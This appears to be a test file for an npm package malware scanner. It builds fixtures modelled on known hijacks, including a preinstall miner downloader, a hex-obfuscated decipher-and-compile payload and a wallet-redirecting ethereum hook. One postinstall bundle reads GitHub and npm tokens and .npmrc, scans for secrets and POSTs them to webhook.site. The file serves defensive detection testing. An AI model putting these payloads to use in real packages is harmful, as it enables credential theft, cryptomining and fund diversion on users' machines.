@@ -1,0 +1,118 @@
+"""npm positives written as inert text in the shape of known hijacks, plus benign look-alikes."""
+
+from __future__ import annotations
+
+from tests.packages.helpers import facts_of, npm_tgz, verdict
+
+
+def test_ua_parser_js_style_preinstall_miner() -> None:
+    preinstall_js = '''
+const { exec } = require("child_process");
+function terminalLinux() {
+  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {});
+}
+var opsys = process.platform;
+if (opsys == "linux") { terminalLinux(); }
+else if (opsys == "win32") { exec("preinstall.bat"); }
+'''
+    miner_args = "-k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUm" \
+        " --cpu-max-threads-hint=50 --donate-level=1 --background"
+    preinstall_sh = f'''
+IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
+if [ -z "$IP" ]; then
+  curl http://159.148.186.228/download/jsextension -o jsextension
+  chmod +x jsextension
+  ./jsextension {miner_args}
+fi
+'''
+    preinstall_bat = '@echo off\ncurl http://159.148.186.228/download/jssc.exe -o jsextension.exe\nif not exist jsextension.exe (\n wget http://159.148.186.228/download/jssc.exe -O jsextension.exe\n)\nif not exist jsextension.exe (\n certutil.exe -urlcache -f http://159.148.186.228/download/jssc.exe jsextension.exe\n)\nstart jsextension.exe\n'  # noqa: E501
+    data = npm_tgz("ua-parser-js", "0.7.29", {"index.js": "module.exports = function parse(ua) { return {ua}; };\n",
+                                             "preinstall.js": preinstall_js, "preinstall.sh": preinstall_sh,
+                                             "preinstall.bat": preinstall_bat},
+                   scripts={"preinstall": "start /B node preinstall.js & node preinstall.js"})
+    v, strong = verdict(data)
+    assert v == "malicious"
+    assert "package.install-downloader:critical" in strong
+
+
+def test_event_stream_style_encrypted_payload() -> None:
+    # flatmap-stream shape: hex-named helpers, a decipher keyed by an env var, compiled as a module
+    code = ('var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream;return i};\n'
+            '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
+            'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
+            'var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));'
+            'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();\n')
+    data_js = ('module.exports=["aGVsbG8=","x","63727970746f","656e76","6e706d5f7061636b6167655f6465736372697074696f6e",'  # noqa: E501
+               '"6165733235362d636263","6372656174654465636970686572","5f636f6d70696c65","686578","75746638"];\n')
+    data = npm_tgz("flatmap-stream", "0.1.1", {"index.min.js": code, "test/data.js": data_js})
+    v, strong = verdict(data)
+    assert v == "malicious", strong
+    assert "package.decoded-exec:critical" in strong
+
+
+def test_chalk_debug_2025_style_wallet_drainer_in_index() -> None:
+    wallets = ",".join(f'"0x{i:040x}"' for i in range(1, 40)) + "," + \
+        ",".join(f'"bc1q{"a" * 10}{i:030d}"'.replace("1", "q") for i in range(5))
+    drainer = ("const _0x1a2b=[" + wallets + "];" +
+               "".join(f"var _0x{i:04x}=_0x1a2b[{i}];" for i in range(40)) +
+               "if(typeof window!=='undefined'&&window.ethereum){const _0xorig=window.ethereum.request;"
+               "window.ethereum.request=async function(_0xargs){if(_0xargs.method==='eth_sendTransaction'){"
+               "_0xargs.params[0].to=_0x1a2b[0];}return _0xorig.apply(this,arguments);};}"
+               "const _0xfetch=window.fetch;window.fetch=async function(){return _0xfetch.apply(this,arguments)};"
+               "const _0xopen=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(){"
+               "return _0xopen.apply(this,arguments)};\n")
+    index = "const styles = {};\nmodule.exports = function chalk(s) { return s; };\n" + drainer
+    data = npm_tgz("chalk", "5.6.1", {"index.js": index})
+    v, strong = verdict(data)
+    assert v == "malicious", strong
+    assert "package.decoded-exec:critical" in strong
+
+
+def test_shai_hulud_style_postinstall_bundle() -> None:
+    bundle = '''
+const { execSync } = require("child_process");
+const os = require("os");
+const fs = require("fs");
+const https = require("https");
+async function main() {
+  const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
+  const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
+  const rel = "https://github.com/trufflesecurity/trufflehog/releases/download/v3.0.0/";
+  execSync("curl -sL " + rel + "trufflehog_linux_amd64.tar.gz -o /tmp/t.tgz && tar xzf /tmp/t.tgz -C /tmp");
+  const found = execSync("/tmp/trufflehog filesystem / --json").toString();
+  const body = JSON.stringify({ env: process.env, npmrc, found, token });
+  const opts = { hostname: "webhook.site", path: "/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7" };
+  const req = https.request({ ...opts, method: "POST" });
+  req.write(body);
+  req.end();
+}
+main();
+'''
+    data = npm_tgz("@ctrl/tinycolor", "4.1.1", {"index.js": "module.exports = {};\n", "bundle.js": bundle},
+                   scripts={"postinstall": "node bundle.js"})
+    v, strong = verdict(data)
+    assert v == "malicious", strong
+    assert any(s.startswith(("package.exfiltration", "package.install-downloader", "package.download-exec"))
+               and s.endswith("critical") for s in strong), strong
+
+
+def test_benign_native_build_and_cli_spawning_stays_clean() -> None:
+    lib = '''
+const { spawn } = require("child_process");
+const path = require("path");
+module.exports = function run(args) {
+  const child = spawn(process.execPath, [path.join(__dirname, "cli.js"), ...args], { env: process.env });
+  return new Promise((resolve) => child.on("close", resolve));
+};
+'''
+    data = npm_tgz("fast-native-thing", "3.1.0", {"index.js": lib, "cli.js": "console.log(process.argv)\n",
+                                                  "binding.gyp": "{}"},
+                   scripts={"install": "node-gyp-build", "test": "node test.js"})
+    v, strong = verdict(data)
+    assert v == "clean", strong
+
+
+def test_install_hook_facts_are_recorded() -> None:
+    facts = facts_of(npm_tgz("x-hooked", "1.0.0", {"index.js": ""}, scripts={"postinstall": "node setup.js"}))
+    assert facts.ecosystem == "npm"
+    assert facts.install_hooks == [{"kind": "npm:postinstall", "command": "node setup.js"}]
